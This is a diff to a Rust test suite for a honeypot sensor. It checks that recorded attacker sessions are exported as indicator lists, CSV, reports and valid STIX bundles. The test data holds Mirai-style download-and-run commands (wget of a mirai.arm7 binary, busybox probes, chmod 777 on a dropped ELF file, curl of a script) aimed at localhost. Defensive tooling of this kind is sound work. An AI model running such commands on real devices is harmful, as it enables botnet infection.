@@ -11,6 +11,8 @@
 
 mod util;
 
+use std::collections::BTreeSet;
+
 use sha2::{Digest, Sha256};
 use util::mirai::{loader, Method};
 use util::{source, Sensor};
@@ -636,7 +638,7 @@ fn exports_list_the_indicators_the_sessions_left() {
         .map(|b| format!("{b:02x}"))
         .collect();
     for (i, line) in [
-        "wget http://127.0.0.1:80/bins/a.sh\r\n",
+        "wget http://127.0.0.1:80/bins/mirai.arm7; /bin/busybox IHCCE\r\n",
         "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01' > /var/x; chmod 777 /var/x; curl -O http://127.0.0.1/c.sh\r\n",
     ]
     .iter()
@@ -662,7 +664,7 @@ fn exports_list_the_indicators_the_sessions_left() {
     );
     assert_eq!(
         export(dir, &["--format", "urls"]),
-        "http://127.0.0.1/c.sh\nhttp://127.0.0.1:80/bins/a.sh\n"
+        "http://127.0.0.1/c.sh\nhttp://127.0.0.1:80/bins/mirai.arm7\n"
     );
     assert_eq!(export(dir, &["--format", "hashes"]), format!("{sha}\n"));
     let csv = export(dir, &["--format", "csv"]);
@@ -678,7 +680,7 @@ fn exports_list_the_indicators_the_sessions_left() {
             ("ip", "127.1.0.22", "1"),
             ("ip", "127.1.0.30", "1"),
             ("url", "http://127.0.0.1/c.sh", "1"),
-            ("url", "http://127.0.0.1:80/bins/a.sh", "1"),
+            ("url", "http://127.0.0.1:80/bins/mirai.arm7", "1"),
             ("sha256", sha.as_str(), "1"),
         ]
     );
@@ -711,6 +713,46 @@ fn exports_list_the_indicators_the_sessions_left() {
     assert!(!bad.status.success());
     assert!(String::from_utf8_lossy(&bad.stderr).contains("neither an RFC 3339 time"));
 
+    // STIX: valid under the OASIS validator in strict mode, and stable.
+    let stix = export(dir, &["--format", "stix"]);
+    assert_eq!(
+        export(dir, &["--format", "stix"]),
+        stix,
+        "same data, same bytes"
+    );
+    let bundle: serde_json::Value = serde_json::from_str(&stix).unwrap();
+    let types: BTreeSet<&str> = bundle["objects"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|o| o["type"].as_str().unwrap())
+        .collect();
+    for t in [
+        "malware",
+        "relationship",
+        "identity",
+        "ipv4-addr",
+        "url",
+        "file",
+        "indicator",
+        "observed-data",
+        "sighting",
+    ] {
+        assert!(types.contains(t), "{t} missing from {types:?}");
+    }
+    let ip = format!(
+        "ipv4-addr--{}",
+        uuid_v5_for_test("{\"value\":\"127.1.0.22\"}")
+    );
+    assert!(stix.contains(&ip), "{ip} not in the bundle");
+    util::stix_validate(&stix).expect("the bundle is valid");
+    // The validator really runs: a bundle with an indicator lacking its pattern fails.
+    let broken = stix.replacen("\"pattern\":", "\"pattern_removed\":", 1);
+    assert!(
+        util::stix_validate(&broken).is_err(),
+        "a broken bundle must fail"
+    );
+
     // The report counts the same store.
     let report = |args: &[&str]| {
         let out = std::process::Command::new(env!("CARGO_BIN_EXE_busybait"))
@@ -741,12 +783,17 @@ fn exports_list_the_indicators_the_sessions_left() {
         r["top_commands"][0],
         serde_json::json!({"value": "exit", "count": 2})
     );
-    assert_eq!(r["top_commands"].as_array().unwrap().len(), 3, "{}", r["top_commands"]);
+    assert_eq!(
+        r["top_commands"].as_array().unwrap().len(),
+        3,
+        "{}",
+        r["top_commands"]
+    );
     assert_eq!(
         r["top_urls"],
         serde_json::json!([
             {"value": "http://127.0.0.1/c.sh", "count": 1},
-            {"value": "http://127.0.0.1:80/bins/a.sh", "count": 1}
+            {"value": "http://127.0.0.1:80/bins/mirai.arm7", "count": 1}
         ])
     );
     assert_eq!(
@@ -770,4 +817,28 @@ fn exports_list_the_indicators_the_sessions_left() {
         "{text}"
     );
     assert!(!text.contains('\x1b'));
+}
+
+/// STIX's UUIDv5 over `name` (namespace 00abedb4-aa42-466c-9c01-fed23315a9b7),
+/// computed here independently of the sensor's code.
+fn uuid_v5_for_test(name: &str) -> String {
+    use sha1::Digest as _;
+    let namespace: [u8; 16] = [
+        0x00, 0xab, 0xed, 0xb4, 0xaa, 0x42, 0x46, 0x6c, 0x9c, 0x01, 0xfe, 0xd2, 0x33, 0x15, 0xa9,
+        0xb7,
+    ];
+    let mut input = namespace.to_vec();
+    input.extend_from_slice(name.as_bytes());
+    let mut h: Vec<u8> = sha1::Sha1::digest(&input).to_vec();
+    h[6] = (h[6] & 0x0f) | 0x50;
+    h[8] = (h[8] & 0x3f) | 0x80;
+    let hex: String = h[..16].iter().map(|b| format!("{b:02x}")).collect();
+    format!(
+        "{}-{}-{}-{}-{}",
+        &hex[..8],
+        &hex[8..12],
+        &hex[12..16],
+        &hex[16..20],
+        &hex[20..32]
+    )
 }
